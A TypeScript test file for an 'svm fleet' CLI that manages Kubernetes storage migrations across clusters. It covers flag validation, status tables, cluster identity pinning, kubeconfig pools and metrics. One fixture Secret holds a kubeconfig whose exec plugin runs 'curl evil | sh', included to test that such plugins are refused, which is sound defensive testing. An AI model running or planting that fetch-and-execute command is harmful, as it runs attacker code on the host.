/** `svm fleet`: its flags become the campaign's input (bad ones refused before Temporal is asked), and its tables. */
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { test } from 'node:test';
import { InvalidArgumentError } from 'commander';
import type { KubeClient } from '../src/kube/client';
import { campaignInput, campaignTable, clustersTable } from '../src/client/cli-fleet';
import { CampaignInputSchema, type CampaignStatus } from '../src/contract/fleet';
import { buildProgram } from '../cli/svm';
import { CAPI_CLUSTER_LABEL, clustersFromDir, clustersFromSecrets } from '../src/worker/cluster-pool';
import { createMetrics, mergeExpositions } from '../src/worker/metrics';
import type { Logger } from 'pino';
import type { ClusterReport } from '../src/contract/fleet';
import { applyReport } from '../src/workflows/cluster-registration';
import type { Confirmation } from '../src/kube/cluster-identity';
import { ClusterIdentity, RECHECK_MS } from '../src/worker/registration';
import { refusal } from '../src/worker/cluster-check';
import { CLUSTER_IDENTITY_ACTIVITY } from '../src/api/cluster';
import { passRecord } from '../src/contract/pass-record';
import type { Agreement } from '../src/contract/agreement';
import { migrationCheck } from '../src/kube/drop-storage';
import { checkRecord } from '../src/kube/migration-record';
import { zeroCounters } from '../src/api/counters';
import { Placement } from '../src/contract/placement';

const defaults = { parallel: 2, parallelism: 2, pauseBetweenWaves: 0, unreachableAfter: 60, deadline: 86_400, output: 'text' };

void test('the flags make the input the workflow takes', () => {
  const input = campaignInput('crd-v2', ['widgets.example.com'], {
    ...defaults,
    clusters: ['east', 'west'],
    canary: 'east',
    drop: 'example.com/v1',
    dropWindow: 0,
    maxFailureRatio: 0.1,
  });
  assert.deepEqual(input, {
    clusters: ['east', 'west'],
    migrate: ['widgets.example.com'],
    dropCheck: 'example.com/v1',
    dropCheckWindowSeconds: 0,
    canary: 'east',
    parallel: 2,
    parallelism: 2,
    pauseBetweenWavesSeconds: 0,
    maxFailureRatio: 0.1,
    unreachableAfterSeconds: 60,
    deadlineSeconds: 86_400,
  });
  assert.ok(CampaignInputSchema.safeParse(input).success);
  const all = campaignInput('to-1.37', [], { ...defaults, all: true, where: "MigrationKubeVersions = 'v1.36.3'" });
  assert.equal(all.migrate, 'all');
  const plan = campaignInput('before-1.38', [], { ...defaults, plan: true, clusters: ['east'] });
  assert.equal(plan.migrate, 'plan');
  assert.ok(CampaignInputSchema.safeParse(plan).success);
  assert.equal(all.where, "MigrationKubeVersions = 'v1.36.3'");
  assert.ok(CampaignInputSchema.safeParse(all).success);
});

void test('bad flags are refused, each with its reason', () => {
  const refused = (name: string, resources: string[], o: Partial<Parameters<typeof campaignInput>[2]>, why: RegExp) =>
    assert.throws(
      () => campaignInput(name, resources, { ...defaults, ...o }),
      (e: unknown) => e instanceof InvalidArgumentError && why.test(e.message),
    );
  refused('c', [], { clusters: ['a'] }, /the resources, --all or --plan \(one of them\)/);
  refused('c', ['secrets'], { clusters: ['a'], all: true }, /one of them/);
  refused('c', [], { clusters: ['a'], all: true, plan: true }, /one of them/);
  refused('c', ['secrets'], {}, /--clusters a,b\) or a query/);
  refused('C!', ['secrets'], { clusters: ['a'] }, /a campaign name is/);
  refused('c', ['secrets'], { clusters: ['a'], canary: 'Not_A_Name' }, /--canary: a cluster name is a DNS label/);
  refused('c', ['secrets'], { clusters: ['a'], dropWindow: 5 }, /--drop-window goes with --drop/);
});

void test('commander refuses a bad cluster list and a ratio out of range, before the action runs', async () => {
  for (const [args, why] of [
    [['--clusters', 'east,West'], /--clusters: a cluster name is a DNS label.*"West"/],
    [['--clusters', 'east', '--max-failure-ratio', '1.5'], /--max-failure-ratio must be between 0 and 1/],
    [['--clusters', 'east', '--parallel', '0'], /--parallel must be between 1 and 100/],
  ] as const) {
    const program = buildProgram().exitOverride();
    const fleet = program.commands.find((c) => c.name() === 'fleet')!;
    let err = '';
    for (const c of [program, fleet, ...fleet.commands])
      c.exitOverride().configureOutput({ writeErr: (s) => (err += s), writeOut: () => {} });
    await assert.rejects(program.parseAsync(['node', 'svm', 'fleet', 'migrate', 'c', 'secrets', ...args]));
    assert.match(err, why);
  }
});

void test("the campaign's table: a line per cluster, then notes and failures", () => {
  const s: CampaignStatus = {
    name: 'crd-v2',
    phase: 'DeadlineExceeded',
    wave: 1,
    rows: [
      {
        cluster: 'east',
        phase: 'Succeeded',
        wave: 0,
        reachable: true,
        resources: { asked: 1, succeeded: 1 },
        objects: 300,
        failures: [],
        drop: { groupVersion: 'example.com/v1', verdict: 'Ready', exitCode: 0 },
      },
      {
        cluster: 'west',
        phase: 'Failed',
        wave: 1,
        reachable: true,
        resources: { asked: 2, succeeded: 1 },
        objects: 12,
        failures: [{ resource: 'secrets', reason: 'Forbidden' }],
        note: '1 migration(s) did not succeed',
      },
    ],
  };
  assert.equal(
    campaignTable(s),
    [
      'campaign crd-v2: DeadlineExceeded, wave 1',
      'CLUSTER  PHASE      WAVE  MIGRATED  OBJECTS  DROP',
      'east     Succeeded     0  1/1           300  Ready (example.com/v1)',
      'west     Failed        1  1/2            12  -',
      'west: 1 migration(s) did not succeed',
      'west: secrets failed: Forbidden',
      '',
    ].join('\n'),
  );
  assert.match(clustersTable([]), /no cluster registered/);
  assert.equal(
    clustersTable([{ name: 'east', uid: 'u-1', servers: [], kubeVersions: ['v1.36.3', 'v1.37.2'], lastSeen: '2026-12-04T00:00:00.000Z' }]),
    'CLUSTER  UID  IDENTITY  KUBERNETES       SVM  LAST SEEN\neast     u-1  pinned    v1.36.3,v1.37.2  -    2026-12-04T00:00:00.000Z\n',
  );
  const conflict = { uid: 'u-2', message: 'its API is cluster "west"', seenAt: '2026-12-05T00:00:00.000Z' };
  assert.equal(
    clustersTable([{ name: 'east', uid: 'u-1', servers: [], kubeVersions: [], conflict }]),
    [
      'CLUSTER  UID  IDENTITY        KUBERNETES  SVM  LAST SEEN',
      'east     u-1  CONFLICT (u-2)  -           -    -',
      'east: identity conflict (2026-12-05T00:00:00.000Z): its API is cluster "west"',
      '',
    ].join('\n'),
  );
});

// ------------------------------------------------------------------ a cluster's identity

const report = (uid: string, extra: Partial<ClusterReport> = {}): ClusterReport => ({
  name: 'east',
  uid,
  servers: [{ server: '10.0.0.1:6443', version: 'v1.37.2' }],
  svmVersion: '0.1.0',
  seenAt: '2026-12-06T00:00:00.000Z',
  ...extra,
});

void test("a registration pins the first report's uid; a report of another uid, or one marked a conflict, changes nothing but the open conflict", () => {
  const first = applyReport({}, report('u-east'));
  assert.equal(first.uid, 'u-east');
  assert.equal(first.report?.uid, 'u-east');
  // A worker named east whose kubeconfig leads to west: the pin and the report stay east's.
  const crossed = applyReport(first, report('u-west', { seenAt: '2026-12-06T00:10:00.000Z', servers: [] }));
  assert.equal(crossed.uid, 'u-east');
  assert.equal(crossed.report, first.report, "the pinned cluster's report is kept");
  assert.deepEqual(crossed.conflict, {
    uid: 'u-west',
    message: 'a worker of cluster "east" reported kube-system uid u-west, but the cluster is pinned to u-east: its API is another cluster',
    seenAt: '2026-12-06T00:10:00.000Z',
  });
  // A conflict its worker found (the uid pinned to another name) pins nothing, even on a name not pinned yet.
  const unpinned = applyReport({}, report('u-west', { conflict: 'the uid is pinned to "west"' }));
  assert.equal(unpinned.uid, undefined);
  assert.equal(unpinned.report, undefined);
  assert.equal(unpinned.conflict?.message, 'the uid is pinned to "west"');
  // The pinned cluster's next report is applied; the open conflict stays until an operator's pin.
  const again = applyReport(crossed, report('u-east', { seenAt: '2026-12-06T00:20:00.000Z' }));
  assert.equal(again.report?.seenAt, '2026-12-06T00:20:00.000Z');
  assert.deepEqual(again.conflict, crossed.conflict);
});

function identity(answers: Confirmation[], apiUid: () => string, clock: { now: number }) {
  const lines: string[] = [];
  const log = { error: (_o: unknown, m: string) => lines.push(`error ${m}`), info: (_o: unknown, m: string) => lines.push(`info ${m}`) };
  let asked = 0;
  const metrics = createMetrics({ placement: Placement.of('q', 'east') });
  const id = new ClusterIdentity({
    name: 'east',
    where: 'kubeconfig /k/east, server https://10.0.0.9:6443',
    report: () => Promise.resolve(report(apiUid())),
    confirm: () => Promise.resolve(answers[Math.min(asked++, answers.length - 1)]!),
    apiUid: () => Promise.resolve(apiUid()),
    log: log as unknown as Logger,
    metrics,
    now: () => clock.now,
  });
  return { id, lines, asked: () => asked, metrics };
}

void test("a worker in conflict serves nothing, says so once, and takes an operator's pin within RECHECK_MS", async () => {
  const clock = { now: 1_000_000 };
  const conflict = { conflict: 'the API this worker of cluster "east" reaches is cluster "west"', pinned: 'u-east' };
  const w = identity([conflict, conflict, { pinned: 'u-west' }], () => 'u-west', clock);
  let joined = false;
  void w.id.confirmed.then(() => (joined = true));
  assert.equal(
    await w.id.refusal(),
    `${conflict.conflict}; nothing was done: this worker serves nothing while cluster "east"'s identity is in conflict`,
  );
  assert.equal(w.id.pinned, undefined);
  await new Promise((r) => setImmediate(r));
  assert.equal(joined, false, 'no Lease is taken in the API while in conflict (the worker joins its cluster once confirmed)');
  assert.match(
    await w.metrics.registry.getSingleMetricAsString('svm_cluster_identity_conflict'),
    /svm_cluster_identity_conflict\{cluster="east"\} 1/,
  );
  // Within RECHECK_MS, tasks are refused on what is known: Temporal is not asked again.
  clock.now += RECHECK_MS - 1;
  assert.ok(await w.id.refusal());
  assert.equal(w.asked(), 1);
  clock.now += 1;
  assert.ok(await w.id.refusal());
  assert.equal(w.asked(), 2);
  // The operator pinned east to the uid its API answers (a cluster recreated under the name): served again.
  clock.now += RECHECK_MS;
  assert.equal(await w.id.refusal(), undefined);
  assert.equal(w.id.pinned, 'u-west');
  await new Promise((r) => setImmediate(r));
  assert.equal(joined, true);
  assert.match(await w.metrics.registry.getSingleMetricAsString('svm_cluster_identity_conflict'), /\} 0/);
  assert.deepEqual(
    w.lines.map((l) => l.slice(0, 40)),
    ['error identity conflict: the API this wo', 'info cluster identity confirmed: the API'],
    'the conflict logged once, and its end',
  );
});

void test('a confirmed worker whose API now answers another uid refuses every task, naming both and where its API is', async () => {
  let uid = 'u-east';
  const w = identity([{ pinned: 'u-east' }], () => uid, { now: 0 });
  assert.equal(await w.id.refusal(), undefined);
  uid = 'u-west';
  assert.equal(
    await w.id.refusal(),
    'the API this worker reaches (kubeconfig /k/east, server https://10.0.0.9:6443) answers kube-system uid u-west, but cluster "east" is pinned to u-east: nothing was done (check the worker\'s kubeconfig and the address it leads to)',
  );
});

void test("the activity check: the name first, then the worker's identity, then the uid the workflow recorded", async () => {
  const ok = { pinned: 'u-east', refusal: () => Promise.resolve(undefined) };
  const inConflict = { pinned: undefined, refusal: () => Promise.resolve('in conflict') };
  assert.equal(await refusal({ name: 'east', uid: 'u-east' }, 'east', ok, 'migrateChunk'), undefined);
  assert.match(
    (await refusal({ name: 'west' }, 'east', ok, 'migrateChunk'))!,
    /belongs to cluster "west" but the worker that took it serves cluster "east"/,
  );
  assert.equal(await refusal({ name: 'east', uid: 'u-east' }, 'east', inConflict, 'migrateChunk'), 'in conflict');
  // The campaign's probe (no header) skips the name, never the identity.
  assert.equal(await refusal(undefined, 'east', inConflict, CLUSTER_IDENTITY_ACTIVITY), 'in conflict');
  assert.equal(await refusal(undefined, 'east', ok, CLUSTER_IDENTITY_ACTIVITY), undefined);
  assert.equal(
    await refusal({ name: 'east', uid: 'u-west' }, 'east', ok, 'migrateChunk'),
    'this task\'s workflow started against kube-system uid u-west, but cluster "east" is pinned to u-east: not the same cluster; nothing was done',
  );
  // A single-cluster worker has no identity to check: as before.
  assert.equal(await refusal(undefined, undefined, undefined, 'migrateChunk'), undefined);
});

void test("a named cluster's verdict counts only against its pinned uid; one from before uids were recorded does not", () => {
  const pass = passRecord({ agreed: true, verified: true, checked: '2 of 2', token: 't', encodingVersion: 'v2' } as Agreement, 'svm', {
    clusterUid: 'u-east',
  });
  assert.equal(pass.clusterUid, 'u-east');
  // The record check (src/kube/migration-record.ts) against east's placement pinned to `uid`.
  const uidMismatch = (record: typeof pass, uid: string) => {
    const checked = checkRecord(
      {
        workflowId: 'migrate/east/widgets.example.com',
        type: 'migrateResource',
        taskQueue: 'q/cluster/east',
        input: { resource: 'widgets.example.com', cluster: { name: 'east' } },
        result: { phase: 'Succeeded', counters: zeroCounters(), record },
      },
      { resource: { group: 'example.com', resource: 'widgets' }, placement: Placement.of('q', { name: 'east', uid }) },
    );
    return checked.counts ? undefined : checked.why;
  };
  assert.equal(uidMismatch(pass, 'u-east'), undefined);
  assert.match(uidMismatch(pass, 'u-new')!, /made against kube-system uid u-east, but the cluster is pinned to u-new/);
  const { clusterUid: _c, ...legacy } = pass;
  assert.match(uidMismatch(legacy, 'u-east')!, /names no cluster uid \(made before svm recorded one\)/);
  // The drop check's migration verdict: Unknown, with that reason, however good the pass.
  const found = { workflowId: 'migrate/east/widgets.example.com', status: 'COMPLETED', phase: 'Succeeded', record: pass };
  const now = { agreed: true, verified: true, checked: '2 of 2', token: 't', encodingVersion: 'v2', source: 'discovery' } as Agreement;
  const target = { groupVersion: 'example.com/v1', group: 'example.com', version: 'v1' } as Parameters<typeof migrationCheck>[0];
  assert.equal(
    migrationCheck(target, 'widgets.example.com', { storageVersion: 'example.com/v2', agreement: now }, { found }).verdict,
    'Ready',
  );
  const foreign = { found: { ...found, refused: uidMismatch(pass, 'u-new')! } };
  const c = migrationCheck(target, 'widgets.example.com', { storageVersion: 'example.com/v2', agreement: now }, foreign);
  assert.equal(c.verdict, 'Unknown');
  assert.match(c.reason, /another cluster's verdict does not count/);
});

void test("a pool's directory: a cluster per file, named by it; hidden entries skipped; a bad name or none refused", async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'svm-pool-test-'));
  try {
    assert.throws(() => clustersFromDir(dir), /holds no kubeconfig/);
    // As a mounted Secret: ..data a directory, each key a symlink into it.
    fs.mkdirSync(path.join(dir, '..data'));
    fs.writeFileSync(path.join(dir, '..data', 'east.kubeconfig'), 'apiVersion: v1\n');
    fs.symlinkSync(path.join('..data', 'east.kubeconfig'), path.join(dir, 'east.kubeconfig'));
    fs.writeFileSync(path.join(dir, 'west'), 'apiVersion: v1\n');
    assert.deepEqual(
      clustersFromDir(dir).map(({ name, kubeconfig }) => ({ name, kubeconfig })),
      [
        { name: 'east', kubeconfig: path.join(dir, 'east.kubeconfig') },
        { name: 'west', kubeconfig: path.join(dir, 'west') },
      ],
    );
    fs.writeFileSync(path.join(dir, 'west.yaml'), '');
    assert.throws(() => clustersFromDir(dir), /west and west\.yaml both name cluster "west"/);
    fs.rmSync(path.join(dir, 'west.yaml'));
    fs.writeFileSync(path.join(dir, 'North_1.yaml'), '');
    assert.throws(() => clustersFromDir(dir), /file North_1\.yaml: a cluster name is a DNS label.*"North_1"/);
    assert.throws(() => clustersFromDir(path.join(dir, 'nope')), /SVM_KUBECONFIG_DIR .*nope: ENOENT/);
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
});

void test("a pool from Cluster API's Secrets: each cluster's <name>-kubeconfig, its value written for this user alone", async () => {
  const into = fs.mkdtempSync(path.join(os.tmpdir(), 'svm-pool-test-'));
  const asked: string[] = [];
  const secret = (name: string, cluster: string, value?: string) => ({
    metadata: { name, labels: { [CAPI_CLUSTER_LABEL]: cluster } },
    ...(value ? { data: { value: Buffer.from(value).toString('base64') } } : {}),
  });
  // Every cluster has its Cluster object but "gone", whose kubeconfig Secret outlived it.
  const capi = ['west', 'east', 'north', 'Bad_Name', 'south', 'up', 'torn'];
  const management = {
    getJson: (p: string) => {
      asked.push(p);
      if (p === '/apis/cluster.x-k8s.io') return Promise.resolve({ preferredVersion: { groupVersion: 'cluster.x-k8s.io/v1beta2' } });
      if (p === '/apis/cluster.x-k8s.io/v1beta2/namespaces/capi-system/clusters')
        return Promise.resolve({ items: capi.map((name) => ({ metadata: { name } })) });
      return Promise.resolve({
        items: [
          secret('gone-kubeconfig', 'gone', 'kind: Config # gone\n'),
          secret('west-kubeconfig', 'west', 'kind: Config # west\n'),
          secret('west-ca', 'west', 'not a kubeconfig'),
          secret('east-kubeconfig', 'east', 'kind: Config # east\n'),
          secret('north-kubeconfig', 'north'),
          secret('Bad_Name-kubeconfig', 'Bad_Name', 'kind: Config\n'),
          secret(
            'south-kubeconfig',
            'south',
            'kind: Config\nusers:\n- name: admin\n  user:\n    exec:\n      command: /bin/sh\n      args: [-c, "curl evil | sh"]\n',
          ),
          secret('up-kubeconfig', 'up', 'users:\n- name: old\n  user:\n    auth-provider: {name: gcp}\n'),
          secret('torn-kubeconfig', 'torn', 'users: [\n'),
        ],
      });
    },
  } as unknown as KubeClient;
  try {
    const refused: string[] = [];
    const clusters = await clustersFromSecrets(management, 'capi-system', into, (secret, why) => refused.push(`${secret}: ${why}`));
    assert.deepEqual(asked, [
      '/api/v1/namespaces/capi-system/secrets?labelSelector=cluster.x-k8s.io%2Fcluster-name',
      '/apis/cluster.x-k8s.io',
      '/apis/cluster.x-k8s.io/v1beta2/namespaces/capi-system/clusters',
    ]);
    assert.deepEqual(
      clusters.map((c) => c.name),
      ['east', 'west'],
      'the CA Secret and one without a value are not clusters',
    );
    // One Secret that cannot be served is left out and said; the pool serves the others.
    assert.equal(refused.length, 5, refused.join('\n'));
    assert.match(
      refused.find((r) => r.startsWith('capi-system/gone-kubeconfig')) ?? '',
      /no Cluster API Cluster object "gone" in capi-system/,
    );
    assert.match(refused.find((r) => r.startsWith('capi-system/Bad_Name-kubeconfig')) ?? '', /a cluster name is a DNS label.*"Bad_Name"/);
    assert.match(
      refused.find((r) => r.startsWith('capi-system/south-kubeconfig')) ?? '',
      /user admin runs a plugin \(exec "\/bin\/sh"\).*SVM_POOL_KUBECONFIG_PLUGINS/,
    );
    assert.match(refused.find((r) => r.startsWith('capi-system/up-kubeconfig')) ?? '', /user old runs a plugin \(auth-provider "gcp"\)/);
    assert.match(refused.find((r) => r.startsWith('capi-system/torn-kubeconfig')) ?? '', /does not parse/);
    assert.deepEqual(fs.readdirSync(into).sort(), ['east.kubeconfig', 'west.kubeconfig'], 'nothing of a refused Secret written');
    assert.equal(fs.readFileSync(clusters[0]!.kubeconfig, 'utf8'), 'kind: Config # east\n');
    assert.equal(fs.statSync(clusters[1]!.kubeconfig).mode & 0o777, 0o600);
  } finally {
    fs.rmSync(into, { recursive: true, force: true });
  }
});

void test("a pool's metrics: one endpoint, each family once, every cluster's series labelled with it", async () => {
  const east = createMetrics({ placement: Placement.of('q', 'east') });
  const west = createMetrics({ placement: Placement.of('q', 'west'), processMetrics: false });
  east.objects.inc({ resource: 'secrets', outcome: 'migrated' }, 3);
  west.objects.inc({ resource: 'secrets', outcome: 'migrated' }, 5);
  const text = mergeExpositions([await east.registry.metrics(), await west.registry.metrics()]);
  const name = (await east.registry.getMetricsAsJSON()).find((m) => m.name.endsWith('objects_total'))!.name;
  assert.equal(text.split('\n').filter((l) => l === `# TYPE ${name} counter`).length, 1, 'one TYPE line for the family');
  assert.match(text, new RegExp(`^${name}\\{resource="secrets",outcome="migrated",cluster="east"\\} 3$`, 'm'));
  assert.match(text, new RegExp(`^${name}\\{resource="secrets",outcome="migrated",cluster="west"\\} 5$`, 'm'));
  assert.equal(text.split('\n').filter((l) => l.startsWith('# TYPE process_resident_memory_bytes')).length, 1);
  assert.doesNotMatch(text, /process_resident_memory_bytes\{cluster="west"\}/, "the process's metrics once");
  assert.match(text, /^svm_worker_up\{cluster="east"\} 1$/m);
  assert.match(text, /^svm_worker_up\{cluster="west"\} 1$/m);
});
